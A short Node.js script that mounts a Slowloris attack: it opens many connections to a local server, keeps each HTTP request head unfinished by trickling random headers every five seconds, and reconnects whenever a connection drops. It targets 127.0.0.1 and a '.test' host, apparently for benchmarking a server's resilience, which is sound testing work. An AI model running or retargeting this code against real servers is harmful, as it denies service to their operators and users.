// Slowloris: connections that never finish the head of their request, and come back when they are cut off.
// Arguments: the port and how many.
import { connect } from 'node:net';

const [port, count] = process.argv.slice(2).map(Number);
const dropEveryMs = 5000;
const backAfterMs = 200;

function attack(i) {
  const socket = connect({ port, host: '127.0.0.1', localAddress: `127.0.1.${1 + (i % 200)}` });
  const drops = setInterval(() => socket.write(`X-Drop: ${Math.random()}\r\n`), dropEveryMs);
  socket.on('error', () => socket.destroy());
  socket.on('close', () => {
    clearInterval(drops);
    setTimeout(() => attack(i), backAfterMs);
  });
  socket.write('GET / HTTP/1.1\r\nHost: www.bench.test\r\n');
  socket.resume();
}

for (let i = 0; i < count; i++) attack(i);
